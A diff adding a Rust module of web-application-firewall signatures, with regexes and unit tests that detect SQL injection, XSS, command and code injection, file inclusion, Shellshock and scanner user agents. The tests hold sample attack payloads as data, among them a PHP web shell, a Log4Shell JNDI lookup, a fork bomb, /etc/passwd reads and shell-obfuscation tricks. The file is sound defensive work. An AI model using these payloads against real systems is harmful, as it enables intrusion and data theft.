@@ -1,0 +1,303 @@
+//! The attack signatures: whether one decoded value carries an attack of one class. SQL injection
+//! and XSS are libinjection's (its Rust port, `libinjectionrs`) with a few regular expressions
+//! for what its tokenizer leaves to others; the other classes are our own expressions.
+//!
+//! The attack knowledge behind the expressions comes from public sources: the OWASP Core Rule Set
+//! (its rule families 913 scanners, 930 LFI, 932 RCE, 933 PHP, 934 generic, 941 XSS, 942 SQLi, 944
+//! Java and their data lists, Apache-2.0), and the published descriptions of the attacks they
+//! name (Shellshock CVE-2014-6271, Log4Shell CVE-2021-44228, Spring4Shell CVE-2022-22965). The
+//! expressions are ours and compact; none is copied. All are compiled once into `RegexSet`s (the
+//! `regex` crate matches in time linear in the input: no catastrophic backtracking) and matched
+//! case-insensitively on bytes.
+
+use std::sync::OnceLock;
+
+use regex::bytes::{RegexSet, RegexSetBuilder};
+
+use super::policy::Attack;
+
+/// Schemes of stream wrappers that read local files or run code: both a file inclusion and, for
+/// PHP's own, a code injection.
+const WRAPPERS: &str = r"\b(?:php|file|phar|zlib|compress\.zlib|compress\.bzip2|expect|glob|ogg|rar|ssh2(?:\.\w+)?|zip)://";
+
+const SQLI: &[&str] = &[
+    r"\bunion(?:\s|/\*.*?\*/|\()+(?:all\s+|distinct\s+)?\(?\s*select\b",
+    r"\b(?:sleep|benchmark|pg_sleep|dbms_pipe\.receive_message|extractvalue|updatexml|load_file)\s*\(",
+    r"\bwaitfor\s+(?:delay|time)\s+'",
+    r"\b(?:information_schema|sysobjects|syscolumns|pg_catalog|sqlite_master|mysql\.user|msysaccessobjects)\b",
+    r"@@(?:version|datadir|hostname|basedir)\b",
+    r"\bxp_cmdshell\b|\bexec(?:ute)?\s+master\.",
+    r"\binto\s+(?:out|dump)file\b",
+    r";\s*(?:drop|truncate|alter)\s+(?:table|database|user)\b",
+    r"['`]\s*(?:or|and|\|\||&&)\s+[\w'`]+\s*(?:=|<|>|like\b|is\b|in\b)",
+];
+
+const XSS: &[&str] = &[
+    r"<\s*/?\s*(?:script|iframe|frame|object|embed|applet|svg|math|style|link|meta|base|form|isindex|xml|import|vmlframe)\b",
+    r"<[a-z!/?][^>]*?[\s/]on[a-z]{3,}\s*=",
+    r#"(?:^|["'\s;])on[a-z]{3,}\s*=\s*["'`]?[\w\s]*[(`=]"#,
+    r"\b(?:java|vb|live)script\s*:",
+    r"\bdata:\s*(?:text/html|image/svg\+xml|application/x?html)",
+    r"\bsrcdoc\s*=|-moz-binding\s*:|\bexpression\s*\(|\bbehavior\s*:\s*url",
+    r"\b(?:alert|prompt|confirm)\s*(?:\(|`)|\bdocument\s*\.\s*(?:cookie|domain|write)\b|\bwindow\s*\.\s*location\b",
+    r"\[\]\[\(!\[\]|\(!\[\]\+\[\]\)",
+];
+
+/// Matched on [`command_line`]'s rewriting, where the quoting and escaping tricks of shells are
+/// already undone.
+const CMDI: &[&str] = &[
+    // A command after a separator or in a substitution (not at the start of a value: a value
+    // starting with "sort" or "cat food" is too often just words).
+    r"(?:[;&|\n`]|\$\(|<\()\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|lua|node|ping|nslookup|dig|host|rm|chmod|chown|echo|printf|ps|kill|pkill|sleep|telnet|ssh|scp|ftp|tftp|busybox|awk|gawk|sed|find|xargs|head|tail|more|less|env|printenv|ifconfig|ip|netstat|ss|base64|xxd|od|tar|gzip|mkfifo|touch|cp|mv|crontab|sudo|su|passwd|useradd|nohup|exec|eval|socat|systemctl|service|mount|dd|uptime|hostname|w|who|last|history|ansible|docker|kubectl|nmap|tee|tac|nl|sort|uniq|grep|egrep|zcat|bzcat|strings|rev|cut|getent|lsof|which|whereis|locate|alias|source|set|export|unset|time|timeout|nice|awk)\b(?:\s|$|[;&|<>`)])",
+    r"\$\(\s*[a-z/.]|`\s*[a-z/][^`]*`|\$\{?ifs\b|\$\{[a-z_]+(?::-|##|%%|//)",
+    r"/(?:usr/)?s?bin/[a-z]+\b",
+    r"/[?*][?*][?*]/[a-z?*]+",
+    r"(?:>|<)\s*/dev/(?:tcp|udp)/|\bmkfifo\b|\b(?:nc|ncat|netcat)\s+(?:-[a-z]*\s+)*[\w.]+\s+\d+",
+    r"\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+-|\b(?:invoke-expression|invoke-webrequest|downloadstring|downloadfile|start-process|new-object\s+net\.webclient|get-childitem|get-content|set-executionpolicy)\b",
+    r"(?:^|[;&|(])\s*(?:if\s+(?:not\s+)?(?:exist|defined|errorlevel|/i)\b|for\s+/[dflr]\b|for\s+%%?\w\s+in\s*\()",
+    r"(?:^|[;&|])\s*(?:net\s+(?:user|localgroup|view)|tasklist|systeminfo|ipconfig|certutil|bitsadmin|wmic|reg\s+(?:query|add)|type\s+[a-z]:)\b",
+    r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}",
+    // Brace expansion (`{cat,/etc/passwd}`, its comma already a space).
+    r"\{\s*(?:cat|ls|id|echo|wget|curl|nc|bash|sh|uname|whoami)\s+[^}]*\}",
+    r"(?:^|[;&|\s])!(?:!|-?\d+|\$|#|\?)",
+    r"\bsystem\s+(?:nc|bash|sh|curl|wget)\b|^\s*\.(?:system|shell)\s",
+];
+
+const CODE_INJECTION: &[&str] = &[
+    // PHP: tags, high-risk functions (called), super-globals, ini directives, serialised objects,
+    // variable functions.
+    r"<\?(?:php\b|=|\s|$)|\?>\s*$|\[\s*\?php\b",
+    r"\b(?:eval|assert|shell_exec|passthru|proc_open|popen|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo|create_function|call_user_func(?:_array)?|file_get_contents|file_put_contents|fsockopen|unserialize|highlight_file|show_source|move_uploaded_file|preg_replace|array_map|usort|fwrite|fputs|var_dump|print_r|posix_\w+|ini_set|ini_get|getenv|putenv|set_time_limit|stream_get_contents|curl_exec|dl)\s*(?:/\*.*?\*/\s*)*\(",
+    r#"\b(?:system|exec|include|include_once|require|require_once|readfile|fopen|chmod|unlink|mail|echo|print)\s*(?:\(\s*)?['"$`]"#,
+    r"\$_(?:get|post|cookie|request|server|files|env|session)\b|\$globals\b|\$http_\w+_vars\b|\$php_self\b",
+    r"\b(?:allow_url_include|allow_url_fopen|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|register_globals|opcache\.[a-z_]+|session\.[a-z_]+|zend\.[a-z_]+|suhosin\.[a-z_.]+)\s*=",
+    r#"\b[oc]:\d+:"[\w\\]+":\d+:\{"#,
+    r"\$+[a-z_][\w]*\s*(?:\[[^\]]*\]\s*)*\(|::\$\w+\s*\(|\$\{\s*[a-z_]\w*\s*\}\s*\(",
+    // JavaScript and Node.js.
+    r"\brequire\s*\(\s*['`]\s*child_process|\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|env|exit|kill|dlopen)\b",
+    r"\b__proto__\b|\bconstructor\s*(?:\.\s*prototype|\[\s*['`]prototype|\s*\.\s*constructor)|\bfunction\s*\(\s*\)\s*\{.*\breturn\b|\bnew\s+function\s*\(",
+    // Java: dangerous classes, process spawning, expression languages, Log4Shell, serialisation.
+    r"\bjava\.(?:lang\.(?:runtime|processbuilder|system|reflect|class|thread)|io\.(?:file|objectinputstream|filteroutputstream)|net\.(?:url|socket)|beans\.xmldecoder)\b|\bjavax\.script\b|\bjavax\.naming\b",
+    r"\b(?:runtime\s*\.\s*getruntime|getruntime\s*\(\s*\)\s*\.\s*exec|processbuilder|invokertransformer|chainedtransformer|instantiatetransformer|classloader|getclass\s*\(|forname\s*\()",
+    r"\$\{[^}]{0,40}(?:jndi|lower|upper|env|sys|date|ctx|main|::-)[:}]|\$\{\s*jndi\b|\bjndi\s*:\s*(?:ldap|rmi|dns|iiop|corba|nds|nis)",
+    r"%\{\s*[(#@]|#_?memberaccess|@java\.lang|\bclass\.module\.classloader\b|#context\[|\(#\w+\s*=",
+    r"(?-i:^rO0AB|\xac\xed\x00\x05)",
+    // Server-side templates, Ruby, Perl, Python.
+    r"\{\{.*?(?:__class__|__mro__|__globals__|__builtins__|__import__|config\.|self\.|request\.|lipsum|cycler|joiner|constructor|\d\s*\*\s*\d).*?\}\}|\{%\s*(?:import|include|set|for)\b|\$\{\s*\d+\s*\*\s*\d+\s*\}|#\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*[\w@$]",
+    r"\b(?:kernel\s*\.\s*(?:exec|system|open|spawn|eval)|io\s*\.\s*popen|open3\s*\.|%x\{|syscall\s*\(|instance_eval|class_eval)\b",
+    r"@\{\s*\[|\bqx\s*[\{(/]|\buse\s+(?:posix|socket|io::)|\bopen\s*\(\s*\w+\s*,\s*['\x22][|<>]",
+    r"\b(?:__import__|__builtins__|__globals__|__subclasses__|__getattribute__)\b|\bos\s*\.\s*(?:system|popen|exec\w*)\s*\(|\bsubprocess\s*\.",
+];
+
+const LFI: &[&str] = &[
+    r"(?:^|[/\\=\s'\x22])\.{2,}(?:[/\\;]|$)|\.\.\xc0\xaf|\.\.\xc1\x9c",
+    r"(?:^|[^\w.-])/?etc/(?:passwd|master\.passwd|shadow|group|gshadow|hosts|issue|hostname|crontab|sudoers|fstab|motd|os-release|lsb-release|profile|bashrc|environment|resolv\.conf|security|init\.d|httpd|apache2?|nginx|mysql|ssh|ssl|php\d?|redhat-release|debian_version|inittab|ld\.so|pam\.d|x11|apt|network|sysconfig|cron)",
+    r"/proc/(?:self|\d+|thread-self)/|/proc/(?:version|cmdline|environ|mounts|net/)",
+    r"/var/(?:log|lib|mail|spool|run|www)/|/(?:root|home/\w+)/\.|/usr/local/(?:apps|etc|apache|nginx)/",
+    r"\.(?:ssh/(?:id_\w+|authorized_keys|known_hosts)|bash_history|bash_profile|bashrc|zsh_history|mysql_history|psql_history|htpasswd|htaccess|git/(?:config|head)|svn/entries|aws/credentials|docker/config\.json|kube/config|netrc|pgpass)\b",
+    r"(?:^|[/\\:])(?:windows|winnt)[/\\](?:system32|system\.ini|win\.ini|repair|debug|panther)|\b(?:boot|win|system)\.ini\b|\bweb\.config\b|\bwp-config\.php\b|\bc:[/\\](?:windows|inetpub|boot|users)",
+];
+
+/// Scanners and attack tools as they name themselves in `User-Agent` (and other headers).
+const TOOLS: &[&str] = &[
+    r"\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|acunetix|netsparker|nessus|openvas|w3af|arachni|dirbuster|gobuster|feroxbuster|wfuzz|ffuf|havij|commix|skipfish|whatweb|wapiti|jorgee|zmeu|xsstrike|xsser|sqlninja|joomscan|droopescan|appscan|webinspect|fimap|dotdotpwn|tplmap|sstimap|ghauri|jsql|paros|bbqsql|hydra|metasploit|morfeus|libwhisker|webshag|n-stalker|qualysguard|burpcollaborator|interact\.sh|oast\.\w+|netlab360|sysscan|cmsmap|vega/|l9explore|l9tcpid|dirb|nessus|brutus|grabber|uniscan|vooki|wprecon|whatwaf|bfac|crimscanner|fuzz\s?faster|bewica|betabot|hexometer|securityagent|sitelockspider|webbandit|w3af\.org|ironwasp|jbrofuzz|struts-pwn|shortscan|kadimus|lfisuite|lfimap|panoptic|graphw00f|graphql-cop|tinja|nettacker|wpprobe|tsunamisecurityscanner)\b",
+    r"^mozilla/5\.g\b|^mozlila/|^mozilla/4\.0 \(hydra\)",
+];
+
+/// Header names only tools send.
+const TOOL_HEADERS: &[&str] = &[
+    "acunetix-product",
+    "acunetix-scanning-agreement",
+    "acunetix-user-agreement",
+    "acunetix-aspect",
+    "x-scanner",
+    "x-scan-memo",
+    "x-wipp",
+    "x-request-memo",
+    "bugbounty",
+];
+
+const SHELLSHOCK: &[&str] = &[r"^\s*\(\s*\)\s*\{"];
+
+struct Sets {
+    sqli: RegexSet,
+    xss: RegexSet,
+    cmdi: RegexSet,
+    code: RegexSet,
+    lfi: RegexSet,
+    tools: RegexSet,
+    shellshock: RegexSet,
+}
+
+fn sets() -> &'static Sets {
+    static SETS: OnceLock<Sets> = OnceLock::new();
+    SETS.get_or_init(|| {
+        let set = |patterns: &[&str]| {
+            RegexSetBuilder::new(patterns)
+                .case_insensitive(true)
+                .unicode(false)
+                .dot_matches_new_line(true)
+                .build()
+                // The expressions are constants: a unit test compiles them all.
+                .unwrap_or_else(|e| panic!("a WAAS signature does not compile: {e}"))
+        };
+        let with_wrappers = |patterns: &[&str]| {
+            let mut all = patterns.to_vec();
+            all.push(WRAPPERS);
+            set(&all)
+        };
+        Sets {
+            sqli: set(SQLI),
+            xss: set(XSS),
+            cmdi: set(CMDI),
+            code: with_wrappers(CODE_INJECTION),
+            lfi: with_wrappers(LFI),
+            tools: set(TOOLS),
+            shellshock: set(SHELLSHOCK),
+        }
+    })
+}
+
+/// Compiles the signatures now rather than at the first request.
+pub fn warm_up() {
+    sets();
+}
+
+/// Whether `value` carries `attack` (one of the signature classes; the others never match).
+pub fn matches(attack: Attack, value: &[u8]) -> bool {
+    let sets = sets();
+    match attack {
+        Attack::Sqli => {
+            libinjectionrs::detect_sqli(value).is_injection() || sets.sqli.is_match(value)
+        }
+        Attack::Xss => libinjectionrs::detect_xss(value).is_injection() || sets.xss.is_match(value),
+        Attack::Cmdi => sets.cmdi.is_match(&command_line(value)),
+        Attack::CodeInjection => sets.code.is_match(value),
+        Attack::Lfi => sets.lfi.is_match(value),
+        Attack::Shellshock => sets.shellshock.is_match(value),
+        Attack::AttackTools => sets.tools.is_match(value),
+        _ => false,
+    }
+}
+
+/// Whether a header of this name is one only attack tools send.
+pub fn tool_header(name: &str) -> bool {
+    TOOL_HEADERS.iter().any(|t| name.eq_ignore_ascii_case(t))
+}
+
+/// `value` as a shell would run it, for the command signatures: the characters shells drop from
+/// a word (`\`, quotes, `^` of cmd.exe) deleted, the empty expansions (`$@`, `$*`, `${x:0:0}`-like
+/// tricks are left to the signatures) deleted, `${IFS}` and `,` made spaces.
+fn command_line(value: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(value.len());
+    let mut i = 0;
+    while i < value.len() {
+        match value[i] {
+            b'\\' | b'\'' | b'"' | b'^' => {}
+            b'$' if matches!(value.get(i + 1), Some(b'@' | b'*')) => i += 1,
+            b',' => out.push(b' '),
+            b'$' if value[i..].len() >= 6 && value[i..i + 6].eq_ignore_ascii_case(b"${ifs}") => {
+                out.push(b' ');
+                i += 5;
+            }
+            byte => out.push(byte),
+        }
+        i += 1;
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_signature_compiles() {
+        warm_up();
+    }
+
+    /// Table: (class, value, expected). Each class has attacks and near-miss benign values.
+    #[test]
+    fn signatures() {
+        use Attack::*;
+        let table: &[(Attack, &str, bool)] = &[
+            (Sqli, "1' OR '1'='1", true),
+            (Sqli, "1 union select password from users", true),
+            (Sqli, "1 UNION/**/ALL/**/SELECT 1", true),
+            (Sqli, "1 and sleep(5)", true),
+            (Sqli, "'; DROP TABLE users; --", true),
+            (Sqli, "pg_catalog", true),
+            (Sqli, "\" union select\n", true),
+            (Sqli, "O'Brien", false),
+            (Sqli, "the union voted to select a new chair", false),
+            (Sqli, "Select your size or union jack print", false),
+            (Xss, "<script>alert(1)</script>", true),
+            (Xss, "<img src=x onerror=alert(1)>", true),
+            (Xss, "\" onmouseover=\"alert(1)", true),
+            (Xss, "javascript:alert(1)", true),
+            (Xss, "Fish & chips <3", false),
+            (Xss, "onion=3", false),
+            (Cmdi, "; cat /etc/passwd", true),
+            (Cmdi, "x | id", true),
+            (Cmdi, "$(whoami)", true),
+            (Cmdi, ";c\\at${IFS}/etc/passwd", true),
+            (Cmdi, "`id`", true),
+            (Cmdi, "cmd.exe /c dir", true),
+            (Cmdi, ":(){ :|:& };:", true),
+            (Cmdi, "Tom & Jerry; the cat sat", false),
+            (Cmdi, "rock, paper, scissors", false),
+            (CodeInjection, "<?php system($_GET['c']); ?>", true),
+            (CodeInjection, "eval(base64_decode('aWQ='))", true),
+            (CodeInjection, "${jndi:ldap://x.example/a}", true),
+            (CodeInjection, "java.lang.Runtime", true),
+            (CodeInjection, "{{7*7}}", true),
+            (CodeInjection, "require('child_process').exec('id')", true),
+            (CodeInjection, "O:8:\"stdClass\":0:{}", true),
+            (CodeInjection, "php://filter/resource=index", true),
+            (CodeInjection, "It costs $5 (five dollars)", false),
+            (CodeInjection, "the operating system (Linux)", false),
+            (Lfi, "../../../etc/passwd", true),
+            (Lfi, "..\\..\\windows\\win.ini", true),
+            (Lfi, "/proc/self/environ", true),
+            (Lfi, "file:///etc/hosts", true),
+            (Lfi, "to be continued...", false),
+            (Lfi, "/api/v1/orders/42", false),
+            (Shellshock, "() { :; }; /bin/bash -c id", true),
+            (Shellshock, "see function () { }", false),
+            (
+                AttackTools,
+                "sqlmap/1.7.2#stable (https://sqlmap.org)",
+                true,
+            ),
+            (AttackTools, "Mozilla/5.00 (Nikto/2.1.6)", true),
+            (
+                AttackTools,
+                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+                false,
+            ),
+        ];
+        for (attack, value, want) in table {
+            assert_eq!(
+                matches(*attack, value.as_bytes()),
+                *want,
+                "{} on {value:?}",
+                attack.as_str()
+            );
+        }
+        assert!(!matches(DeniedSource, b"anything"));
+    }
+
+    #[test]
+    fn command_line_undoes_shell_quoting() {
+        let table = [
+            ("c\\a't'\"\"", "cat"),
+            ("c$@at", "cat"),
+            ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
+            ("{cat,/etc/passwd}", "{cat /etc/passwd}"),
+            ("w^h^o^a^m^i", "whoami"),
+        ];
+        for (input, want) in table {
+            assert_eq!(command_line(input.as_bytes()), want.as_bytes(), "{input}");
+        }
+    }
+}
